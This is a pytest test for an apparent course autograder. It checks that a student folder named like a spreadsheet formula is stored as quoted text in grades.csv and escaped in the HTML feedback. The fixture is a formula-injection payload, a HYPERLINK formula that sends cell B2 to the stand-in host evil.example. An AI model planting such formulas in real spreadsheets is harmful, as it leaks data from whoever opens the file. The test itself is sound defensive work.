"""A student id that is a spreadsheet formula, graded end to end by ``rnn-course grade``."""
import csv
import html
import os
import subprocess
import sys
from pathlib import Path

import pytest

from .fixtures.grading_course import dense_course, fixture_paths, submitted  # noqa: F401

# The id, but for its "//": a folder name cannot hold a "/" (collect.py renames it).
FORMULA = '=HYPERLINK("evil.example?"&B2,"x")'


@pytest.mark.slow  # a whole grading run, or a process that must time out
def test_a_formula_folder_name_is_text_in_grades_csv_and_escaped_in_feedback(dense_course, tmp_path):
    """Graded by the command line, is a student folder named like a formula written to
    grades.csv as text (a leading quote, not a live formula) and shown escaped in its
    feedback page, while an ordinary student beside it keeps its plain id?"""
    paths = fixture_paths()
    folder = submitted(tmp_path / "submitted", {FORMULA: paths["stub-unimplemented"],
                                                "ada": paths["stub-unimplemented"]})
    out = tmp_path / "out"
    root = str(Path(__file__).resolve().parents[1])  # this checkout, as the tests import it
    env = dict(os.environ, PYTHONPATH=os.pathsep.join(filter(None, [root, os.environ.get("PYTHONPATH")])))
    proc = subprocess.run([sys.executable, "-m", "autograder_instructor.cli", "grade", "01_dense", str(folder),
                           "--course", str(dense_course), "--out", str(out), "--jobs", "1",
                           "--quiet"], capture_output=True, text=True, env=env, timeout=600)
    assert proc.returncode == 0, proc.stderr[-2000:]
    with open(out / "grades.csv", newline="") as f:
        ids = [row[0] for row in list(csv.reader(f))[1:]]
    assert sorted(ids) == sorted(["'" + FORMULA, "ada"])
    page = (out / "feedback" / f"{FORMULA}.html").read_text()
    assert html.escape(FORMULA) in page and FORMULA not in page
